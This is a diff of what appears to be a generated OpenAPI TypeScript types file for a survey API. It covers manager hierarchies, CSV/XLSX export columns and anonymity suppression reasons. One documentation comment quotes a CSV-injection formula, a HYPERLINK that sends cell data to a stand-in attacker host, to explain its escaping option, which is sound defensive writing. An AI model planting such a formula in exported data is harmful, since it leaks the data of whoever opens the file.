@@ -1371,8 +1371,10 @@ export interface paths {
          *     The body may omit `externalId`; when present it must equal the path's (400 `validation_failed` otherwise).
          *     A `managerId` that would make the respondent their own manager, directly or through others (their manager,
          *     or someone above that manager, reports to them), is refused with 400 `manager_cycle`, its detail at
-         *     `/body/managerId` naming the cycle; nothing is written. A `managerId` may name someone who is not a respondent
-         *     (yet): the chain of managers ends there until they arrive.
+         *     `/body/managerId` naming the cycle; nothing is written. A `managerId` equal to the respondent's own `externalId`
+         *     is no cycle: it marks the top of the tree, is stored and read back as given, and `under`, manager trees and
+         *     the cycle check read it as no manager. A `managerId` may name someone who is not a respondent (yet): the chain
+         *     of managers ends there until they arrive.
          *     Requires `respondents:write`.
          */
         put: operations["upsertRespondent"];
@@ -2531,7 +2533,7 @@ export interface components {
          *     |---|---|---|
          *     | `invalid_json` | 400 | The body is not well-formed JSON. |
          *     | `validation_failed` | 400 | The request breaks the contract; every problem is listed in `details`. |
-         *     | `manager_cycle` | 400 | The respondent's `managerId` would make them their own manager, directly or through others (`upsertRespondent`); the detail at `/body/managerId` names the cycle. |
+         *     | `manager_cycle` | 400 | The respondent's `managerId` would make them their own manager through others (`upsertRespondent`); the detail at `/body/managerId` names the cycle. Their own `externalId` is no cycle: it marks the top of the tree. |
          *     | `unauthenticated` | 401 | No key, a malformed key, or an unknown, revoked or expired key. |
          *     | `insufficient_scope` | 403 | The key lacks the scope named in `details`. |
          *     | `plan_not_eligible` | 403 | The organization's plan has no API access (PRO or BUSINESS needed). |
@@ -3305,10 +3307,36 @@ export interface components {
          *
          *     | format | media type | layout |
          *     |---|---|---|
-         *     | `csv` | `text/csv; charset=utf-8` | RFC 4180, UTF-8 (optionally with a BOM, see `bom`), `\r\n` line ends, a header row `responseId,submittedAt,respondentExternalId` then one column per question id in the survey's question order. Multiple-choice answers are joined with `;` in one cell (choice ids never contain `;`; with `choiceValues: labels` a `;` inside a label is written as `\;`). Unanswered questions are empty cells. |
+         *     | `csv` | `text/csv; charset=utf-8` | RFC 4180, UTF-8 (optionally with a BOM, see `bom`), `\r\n` line ends, a header row, then one row per response in the columns below. Multiple-choice answers are joined with `;` in one cell (choice ids never contain `;`; with `choiceValues: labels` a `;` inside a label is written as `\;`). Unanswered questions, N/A answers and unknown values are empty cells. |
          *     | `json` | `application/json` | One JSON array of `ExportRecord` objects. |
          *     | `ndjson` | `application/x-ndjson` | One `ExportRecord` per line (newline-delimited JSON), so a reader can stream it. |
-         *     | `xlsx` | `application/vnd.openxmlformats-officedocument.spreadsheetml.sheet` | The CSV layout on one sheet named `Responses`, with typed cells: `submittedAt` is a date cell (UTC), NPS and rating answers are numbers, the rest text (XML turns `\r\n` inside a text into `\n`). |
+         *     | `xlsx` | `application/vnd.openxmlformats-officedocument.spreadsheetml.sheet` | The CSV layout on one sheet named `Responses`, with typed cells: `submittedAt` is a date cell (UTC); NPS, rating, number answers, a scale matrix's rows and ranking places are numbers; the rest text (XML turns `\r\n` inside a text into `\n`). Empty cells of CSV are empty cells. |
+         *
+         *     **Columns of CSV and XLSX.** First `responseId`, `submittedAt`, `respondentExternalId` (only when the survey's
+         *     `settings.privacy` is `identified`: a confidential or anonymous survey's files have no identity column),
+         *     `distributionId` and `language`, holding what the `ExportRecord` fields of those names hold (`null` is an empty
+         *     cell). Then the
+         *     answer columns, question by question in the survey's order (only `questionIds` when given). Without the export's
+         *     `language` the headers are ids, so they stay the same when a launched survey's texts, rows or choices are
+         *     reworded; with `language` they are the texts and labels in that language, a question's text and a part of it
+         *     joined by ` · ` (U+00B7 between two spaces):
+         *
+         *     | question | columns: header without `language` | header with `language` | cell |
+         *     |---|---|---|---|
+         *     | `nps`, `rating` | `<questionId>` | the question's text | the integer; empty for N/A (`allowNotApplicable`) |
+         *     | `single_choice` | `<questionId>` | the question's text | the choice id (its label with `choiceValues: labels`); `other` for "Other" |
+         *     | `multiple_choice` | `<questionId>` | the question's text | the choice ids (or labels) joined with `;`, `other` among them for "Other" |
+         *     | `single_choice`, `multiple_choice` with `allowOther` | `<questionId>`, then `<questionId>.other` | the question's text, then `<text> · Other` ("Other" in that language, as on the answer page) | as above, then the "Other" text (empty when "Other" was not chosen) |
+         *     | `text` | `<questionId>` | the question's text | the text |
+         *     | `matrix` with `scale` | one per row, in order: `<questionId>.<rowId>` | `<text> · <row text>` | the row's integer; empty when the row is N/A or unanswered |
+         *     | `matrix` with `columns` | one per row, in order: `<questionId>.<rowId>` | `<text> · <row text>` | the row's column id (its label with `choiceValues: labels`); empty when N/A or unanswered |
+         *     | `ranking` | one per choice, in order: `<questionId>.<choiceId>` | `<text> · <choice label>` | the choice's place, 1 for the most preferred |
+         *     | `number` | `<questionId>` | the question's text | the number |
+         *     | `date` | `<questionId>` | the question's text | `YYYY-MM-DD` as text |
+         *
+         *     A question whose text or labels the translation lacks is named in the default language. Question, row and
+         *     choice ids hold no `.`, so `<questionId>.<rowId>` is never a question id. The JSON formats keep answers as in
+         *     `Answer` and tell N/A (`notApplicable`) apart from an unanswered question.
          *
          *     Rows are ordered by `submittedAt`, then `id`, ascending (oldest first) in every format.
          * @enum {string}
@@ -3355,9 +3383,12 @@ export interface components {
             choiceValues?: "ids" | "labels";
             /**
              * @description One of the survey's `languages`: the choice labels (`choiceValues: labels`) are that language's, and the
-             *     CSV and XLSX header names each question column by its text in that language instead of its id (strings the
-             *     translation lacks are the default language's). 400 `validation_failed` (code `not_found`) for a language
-             *     the survey does not list. Without it, headers are question ids and labels the default language's.
+             *     CSV and XLSX header names each answer column by the question's text in that language (a matrix row's and a
+             *     ranked choice's column by the question's text and the row's text or the choice's label, "Other"'s in that
+             *     language's word) instead of ids (strings the translation lacks are the default language's; see
+             *     `ExportFormat`). 400 `validation_failed` (code `not_found`) for a language the survey does not list. Without
+             *     it, headers are ids (`<questionId>`, `<questionId>.<rowId>`, `<questionId>.<choiceId>`,
+             *     `<questionId>.other`) and labels the default language's.
              */
             language?: components["schemas"]["LanguageTag"];
             /**
@@ -3373,12 +3404,12 @@ export interface components {
              *     as a formula when they open a CSV file, so an answer such as
              *     `=HYPERLINK("https://attacker.example/?"&A2,"Details")` would run on the computer of whoever opens the
              *     export. With `true`, every such cell whose text comes from users — text answers, `respondentExternalId`,
-             *     choice labels and ids, multiple-choice cells, and the question ids in the header — is written with a
-             *     leading `'`, which makes spreadsheets show it as text (the full-width forms `＝`, `＋`, `－`, `＠` count
-             *     too). A text that already starts with apostrophes before one of these characters gets one more, so the rule
-             *     can be undone exactly: remove one `'` from each cell that starts with one or more `'` followed by one of
-             *     these characters. Numbers the service writes (NPS and rating answers) and its own values (`responseId`,
-             *     `submittedAt`) are never changed.
+             *     choice labels and ids, multiple-choice cells, and the headers (ids, or texts with `language`) — is written
+             *     with a leading `'`, which makes spreadsheets show it as text (the full-width forms `＝`, `＋`, `－`, `＠`
+             *     count too). A text that already starts with apostrophes before one of these characters gets one more, so the
+             *     rule can be undone exactly: remove one `'` from each cell that starts with one or more `'` followed by one of
+             *     these characters. Numbers the service writes (NPS, rating and number answers, grid values, ranking places)
+             *     and its own values (`responseId`, `submittedAt`, `distributionId`, `language`) are never changed.
              *
              *     Set `false` for programs that read the file as data: every cell is then the raw text. Whatever this option
              *     says, every cell holding a line feed, a carriage return, a quote, a comma, a semicolon or a tab is quoted,
@@ -3564,7 +3595,8 @@ export interface components {
          *
          *     Each response counts where its respondent stood **when asked**, like every segment: the chain of managers is
          *     taken when the response is stored — from the respondent's manager in the distribution's snapshot (else their
-         *     record then) upwards through the records as they were at that moment — and frozen with it. A move, a sync or a
+         *     record then) upwards through the records as they were at that moment, ending at someone whose `managerId` is
+         *     their own `externalId` (the top of the tree) — and frozen with it. A move, a sync or a
          *     deletion afterwards never moves a past answer between these rows.
          *
          *     Anonymity: every row covers at least `anonymityThreshold` respondents or is suppressed; and the subtraction
@@ -3574,6 +3606,17 @@ export interface components {
          *     example the manager alone), the `organization` row is suppressed, since the whole minus it would be them.
          */
         StaticAnalyticsSegmentBy: string | components["schemas"]["SmartAnalyticsSegmentBy"] | "managerTree";
+        /**
+         * @description Why figures are withheld; `null` when they are shown.
+         *
+         *     | reason | what it means | what to do |
+         *     |---|---|---|
+         *     | `threshold` | The group covers fewer respondents than the anonymity threshold. | Widen the group (fewer filters, a longer window). |
+         *     | `complement` | The group is large enough, but the suppressed groups of the same breakdown together are not: shown, it would give them away as the total minus the shown groups. | Nothing to do: it is shown when the small groups grow. |
+         *     | `released_overlap` | Together with results already released for this survey (to any key), it would give away a small group: it differs from an earlier result by fewer respondents than the threshold (one inside the other), or it would let one response's answers be worked out from the results combined. | Ask for a result already released (the same filters and window, with `submittedBefore` of that time), or wait until at least the threshold of new responses have come in. |
+         * @enum {string|null}
+         */
+        SuppressionReason: "threshold" | "complement" | "released_overlap" | null;
         /** @description How many answers gave one value of a scale. */
         AnalyticsValueCount: {
             /** @description The scale value. */
@@ -3894,8 +3937,9 @@ export interface components {
              * @enum {string}
              */
             managerTreeGroup?: "organization" | "directReports" | "subOrganization";
-            /** @description `true` when the group is under the anonymity threshold, or was suppressed by the subtraction guard; `responseCount` and `questions` are then `null`. */
+            /** @description `true` when the group is withheld (`suppressionReason` says why); `responseCount` and `questions` are then `null`. */
             suppressed: boolean;
+            suppressionReason: components["schemas"]["SuppressionReason"];
             /** @description Responses in the group; `null` when suppressed. */
             responseCount: number | null;
             /** @description Statistics per question for this group, as in `StaticAnalytics.questions`; `null` when suppressed. */
@@ -3933,8 +3977,9 @@ export interface components {
             segmentBy: string | null;
             /** @description The organization's anonymity threshold for this environment (see `getAnalyticsSettings`). */
             anonymityThreshold: number;
-            /** @description `true` when the whole result covers fewer respondents than `anonymityThreshold`; no figures are shown then. */
+            /** @description `true` when the whole result is withheld (`suppressionReason` says why); no figures are shown then. */
             suppressed: boolean;
+            suppressionReason: components["schemas"]["SuppressionReason"];
             /**
              * @description Recipients of the survey's distributions (of `distributionId` only, when given), each respondent counted
              *     once; `null` when the survey has no distribution (responses collected by link only) or when `suppressed`.
@@ -4551,7 +4596,8 @@ export interface components {
          *     **`under`** selects everyone whose chain of managers contains the given respondent, at any depth: their
          *     direct reports, their reports' reports, and so on, not the manager themselves. The chain follows each
          *     respondent's `managerId` to that manager's record, and ends at a `managerId` that names no respondent (so
-         *     people under a departed manager are no longer under that manager's own manager). It reads the respondents as
+         *     people under a departed manager are no longer under that manager's own manager) or the respondent themselves
+         *     (the top of the tree). It reads the respondents as
          *     they are at the preview or the send, so it is exact after every `PUT`, sync and deletion. It combines with the
          *     other filters under `logic` like any filter. Cycles of managers are refused when written (400
          *     `manager_cycle`); one written otherwise ends the walk instead of looping. Analytics `filters` do not take
@@ -5202,7 +5248,8 @@ export interface components {
              * @description Machine-readable reason, the `code` of `ErrorDetail` (open list): for example `format`, `type`,
              *     `unknown_field`, `required`, `invalid_character`, `too_deep`, `out_of_range`; `manager_cycle` (path `/managerId`)
              *     when the record's `managerId` would close a cycle of managers with the stored respondents and the sync's earlier
-             *     records (the record is not written; the others are). Present on every error recorded
+             *     records (the record is not written; the others are; a `managerId` equal to the record's own `externalId` is
+             *     none: it marks the top of the tree). Present on every error recorded
              *     since per-record codes were added (absent only on older jobs and events).
              */
             code?: string;
@@ -5554,7 +5601,11 @@ export interface components {
             location: string | null;
             /** @description Job title. */
             jobTitle: string | null;
-            /** @description The `externalId` of the respondent's manager, for hierarchy. The manager need not exist (yet). */
+            /**
+             * @description The `externalId` of the respondent's manager, for hierarchy. The manager need not exist (yet). Their own
+             *     `externalId` marks the top of the tree: stored and read back as given, read as no manager by `under`, manager
+             *     trees and the cycle check.
+             */
             managerId: string | null;
             /**
              * Format: date
@@ -5621,7 +5672,10 @@ export interface components {
             location?: string | null;
             /** @description Job title. */
             jobTitle?: string | null;
-            /** @description The `externalId` of the manager. It need not exist (yet). */
+            /**
+             * @description The `externalId` of the manager. It need not exist (yet). The respondent's own `externalId` marks the top of
+             *     the tree (no manager, as many HR systems send the CEO): stored and read back as given, never a `manager_cycle`.
+             */
             managerId?: string | null;
             /**
              * Format: date
@@ -6083,7 +6137,8 @@ export interface components {
          *     `userName` (unique per organization and environment, compared case-insensitively), `name.givenName` and
          *     `name.familyName` (the respondent's `firstName` and `lastName`), `emails` (the primary address, else the first, is
          *     the respondent's `email`), `title` (`jobTitle`), `active` and `preferredLanguage`. The enterprise extension carries
-         *     `department`, `employeeNumber` and `manager.value` (the respondent's `managerId`, the manager's `externalId`); the
+         *     `department`, `employeeNumber` and `manager.value` (the respondent's `managerId`, the manager's `externalId`; the
+         *     user's own `externalId` or `id` marks the top of the tree, stored as the `externalId`, never a cycle); the
          *     service's own extension `location`, `hireDate`, `employmentType` and the custom `attributes`. Attributes without a
          *     value are left out. `id` is assigned by the service (`usr_…`) and never changes.
          * @example {
